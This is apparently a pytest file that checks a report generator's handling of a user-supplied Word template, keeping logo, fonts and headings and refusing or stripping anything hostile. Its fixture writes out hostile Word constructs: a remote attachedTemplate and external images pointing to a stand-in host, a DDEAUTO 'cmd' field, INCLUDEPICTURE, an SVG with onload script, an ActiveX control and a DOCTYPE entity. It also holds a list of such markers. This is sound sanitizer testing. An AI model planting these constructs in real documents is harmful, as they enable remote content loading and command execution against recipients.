"""A service's own Word template: what is taken of it, and what never goes out."""

import io
import re
import zipfile

import docx
import pytest
from docx.oxml.ns import qn
from hypothesis import given, settings
from hypothesis import strategies as st

from radon.domain.document.content import BulletList, Paragraph, ReportContent, Section, Tone
from radon.errors import UnusableFile
from radon.outputs.report.document import write_report
from radon.outputs.report.service_template import MAX_TEMPLATE, read_service_template
from radon.outputs.report.template import TEMPLATE
from tests.outputs.report.report_samples import DAY, ZONES, draw_map, make_report

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
PICTURE = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:extent cx="900000" cy="900000"/><wp:docPr id="9" name="Logo">'
    '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:id="rId8"/>'
    '</wp:docPr><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
    '<a:blip r:embed="{}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
    "</w:drawing></w:r>"
)
EVIL = "http://espion.example/p.png"
HEADER = (
    f"<w:p><w:pPr><w:pStyle w:val='En-tte'/></w:pPr>{PICTURE.format('rId1')}"
    f"{PICTURE.format('rId2')}{PICTURE.format('rId3')}"
    "<w:r><w:t>Association de santé : «ser</w:t></w:r><w:r><w:t>vice»</w:t></w:r>"
    "<w:hyperlink r:id='rId8'><w:r><w:t>notre site</w:t></w:r></w:hyperlink>"
    f"<w:fldSimple w:instr=' INCLUDEPICTURE {EVIL} '><w:r><w:t>image</w:t></w:r></w:fldSimple>"
    "<w:fldSimple w:instr=' PAGE '><w:r><w:t>1</w:t></w:r></w:fldSimple>"
    "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DDE</w:instrText></w:r>"
    f"<w:r><w:instrText>AUTO cmd {EVIL}</w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>calcul</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    f"<w:r><w:pict><v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='{EVIL}'/></w:pict>"
    "</w:r><w:r><w:object><w:control r:id='rId9'/></w:object></w:r></w:p>"
)
STYLES = (
    ("Normal", "Normal", "<w:rPr><w:rFonts w:ascii='Georgia'/></w:rPr>"),
    ("Titre1", "heading 1", "<w:pPr><w:numPr><w:numId w:val='7'/></w:numPr></w:pPr>"
     "<w:rPr><w:color w:val='AA0000'/></w:rPr>"),
    ("En-tte", "header", ""),
    ("Entete-TM", "TOC Heading", "<w:basedOn w:val='Titre1'/>"),
    ("Note", "Ma note", ""),
)  # fmt: skip


def make_template(**changes: bytes | None) -> bytes:
    """A template in French, hostile in every way known; ``changes``: other parts, None for none."""
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{own}"><w:name w:val="{name}"/>{rest}</w:style>'
        for own, name, rest in STYLES
    )
    root = f'xmlns:w="{W}" xmlns:r="{R}"'
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{WORD}.template.main+xml"/></Types>',
        "word/document.xml": f"<w:document {root}><w:body><w:p><w:r><w:t>SECRET</w:t></w:r></w:p>"
        "<w:sectPr><w:headerReference w:type='default' r:id='rId4'/><w:pgMar w:top='1800'"
        " w:bottom='9000' w:left='3000' w:right='3000' w:header='500' w:footer='500'/></w:sectPr>"
        "</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId4" Type="{R}/header" Target="header7.xml"/>'
        f'<Relationship Id="rId5" Type="{R}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rId6" Type="{R}/attachedTemplate" Target="{EVIL}"'
        ' TargetMode="External"/></Relationships>',
        "word/styles.xml": f"<w:styles {root}>{styles}</w:styles>",
        "word/header7.xml": f"<w:hdr {root}>{HEADER}</w:hdr>",
        "word/_rels/header7.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{R}/image" Target="media/logo.png"/>'
        f'<Relationship Id="rId2" Type="{R}/image" Target="{EVIL}" TargetMode="External"/>'
        f'<Relationship Id="rId3" Type="{R}/image" Target="media/x.svg"/>'
        f'<Relationship Id="rId8" Type="{R}/hyperlink" Target="{EVIL}" TargetMode="External"/>'
        f'<Relationship Id="rId9" Type="{R}/control" Target="x.bin"/></Relationships>',
        "word/media/logo.png": draw_map(),
        "word/media/x.svg": "<svg onload='alert(1)'/>",
        "word/x.bin": "binaire",
    }  # fmt: skip
    held: dict[str, bytes] = {
        name: part.encode() if isinstance(part, str) else part for name, part in parts.items()
    }
    held.update({name: part for name, part in changes.items() if part is not None})
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, part in held.items():
            if name not in changes or changes[name] is not None:
                archive.writestr(name, part)
    return made.getvalue()


def write_in(tmp_path, content: ReportContent, template: bytes):
    path = tmp_path / "bilan.docx"
    write_report(path, content, template)
    return docx.Document(str(path)), zipfile.ZipFile(path)


def test_the_logo_the_font_and_the_titles_are_the_service_s(tmp_path) -> None:
    template = read_service_template(make_template(), "modele.dotx")
    content = make_report()
    document, archive = write_in(tmp_path, content, template.content)
    (heading,) = [one for one in document.styles if one.name == "Heading 1"]
    assert heading.style_id == "Heading1" and "AA0000" in heading.element.xml
    assert 'w:numId w:val="1"' in heading.element.xml
    assert "Georgia" in document.styles["Normal"].element.xml
    contents = document.styles["TOC Heading"].element.xml
    assert 'w:numId w:val="0"' in contents, "the contents would take the number of a heading"
    header = document.sections[0].header
    said = "".join(node.text or "" for node in header._element.iter(qn("w:t")))
    assert f"Association de santé : {content.service}" in said and content.mention in said
    assert "notre site" in said and "SECRET" not in document.element.xml
    assert sum(name.startswith("word/media/header") for name in archive.namelist()) == 2
    assert len(list(header._element.iter(qn("w:drawing")))) == 1
    section = document.sections[0]
    assert round(section.top_margin.pt * 20) == 1800
    assert round(section.bottom_margin.pt * 20) == 2041
    assert round(section.page_width.mm - section.left_margin.mm - section.right_margin.mm) == 166
    first = section.first_page_header
    assert content.service in "".join(node.text or "" for node in first._element.iter(qn("w:t")))


def test_nothing_hostile_of_a_template_goes_out(tmp_path) -> None:
    template = read_service_template(make_template(), "modele.dotx")
    _, archive = write_in(tmp_path, make_report(), template.content)
    everything = b"\n".join(archive.read(name) for name in archive.namelist())
    for hostile in (b"espion", b"External", b"SECRET", b"INCLUDEPICTURE", b"DDE", b"imagedata",
                    b"svg", b"binaire", b"hlinkClick", b"attachedTemplate"):  # fmt: skip
        assert hostile not in everything, hostile
    assert not any(name.endswith((".bin", ".svg")) for name in archive.namelist())
    fields = re.findall(rb'w:instr="([^"]+)"', everything)
    assert {one.split()[0] for one in fields} <= {b"PAGE", b"NUMPAGES", b"SEQ"}


def test_what_the_template_lacks_is_named_in_one_sentence(tmp_path) -> None:
    template = read_service_template(make_template(), "modele.dotx")
    assert template.told == (
        "Styles absents du modèle, remplacés par ceux de l'application : « Titre », « Sous-titre »,"
        " « Titre 2 », « Titre 3 », « TM 1 », « TM 2 »,"
        " « Liste à puces », « Note », « Alerte », « Figure », « Légende », « Titre de tableau »,"
        " « Cellule », « Cellule titre », « Mention », « Pied de page », « Bilan »."
    )
    blocks = (Paragraph("a", Tone.NOTE), BulletList(("b",)), ZONES)
    content = ReportContent("T", "S", "SATM", "CPOM", DAY, (), (Section("Un", 1, blocks),))
    document, _ = write_in(tmp_path, content, template.content)
    used = {node.get(qn("w:val")) for node in document.element.iter(qn("w:pStyle"))}
    assert used <= {one.style_id for one in document.styles}
    assert {one.name for one in document.styles} >= {"Ma note", "Note"}


def test_our_own_template_given_back_lacks_nothing(tmp_path) -> None:
    template = read_service_template(TEMPLATE.read_bytes(), "modele_bilan.docx")
    assert template.told == ""
    write_report(tmp_path / "ours.docx", make_report())
    document, _ = write_in(tmp_path, make_report(), template.content)
    ours = docx.Document(str(tmp_path / "ours.docx"))
    assert document.element.xml == ours.element.xml
    for one, other in zip(document.sections, ours.sections, strict=True):
        for edge in ("header", "first_page_header", "footer", "first_page_footer"):
            said = [[p.text for p in getattr(s, edge).paragraphs] for s in (one, other)]
            assert said[0] == said[1]


TYPES = "[Content_Types].xml"
MACROS = (
    f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml"'
    ' ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
).encode()


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"%PDF-1.7", "n'est pas un document Word : donnez un modèle enregistré en .docx ou"),
        (b"", "n'est pas un document Word"),
        (make_template(**{TYPES: b"<Types/>"}), "n'est pas un document Word"),
        (make_template(**{TYPES: MACROS}), "contient des macros : enregistrez-le en .docx ou"),
        (make_template(**{"word/vbaProject.bin": b"x"}), "contient des macros"),
        (make_template(**{"word/styles.xml": b"<w:styles"}), "est abîmé"),
        (make_template(**{"word/styles.xml": b"<html/>"}), "est abîmé"),
        (make_template(**{"word/header7.xml": b"<!DOCTYPE x [<!ENTITY a 'b'>]><a/>"}), "DOCTYPE"),
        (make_template()[:-200], "n'est pas un document Word"),
        (b"x" * (MAX_TEMPLATE + 1), "dépasse 10 Mo"),
        (make_template(**{f"word/{rank}.xml": b"" for rank in range(601)}), "démesuré"),
    ],
    ids=range(11),
)
def test_what_is_no_harmless_word_document_is_refused(content: bytes, said: str) -> None:
    with pytest.raises(UnusableFile, match=said) as refused:
        read_service_template(content, "modele.docx")
    assert str(refused.value).startswith("« modele.docx » ")


@settings(deadline=None, max_examples=40)
@given(st.data())
def test_any_damage_is_refused_or_harmless(data: st.DataObject) -> None:
    whole = bytearray(make_template())
    for _ in range(data.draw(st.integers(1, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        told = read_service_template(bytes(whole), "m.docx")
    except UnusableFile:
        return
    with zipfile.ZipFile(io.BytesIO(told.content)) as archive:
        assert b"External" not in b"".join(archive.read(name) for name in archive.namelist())
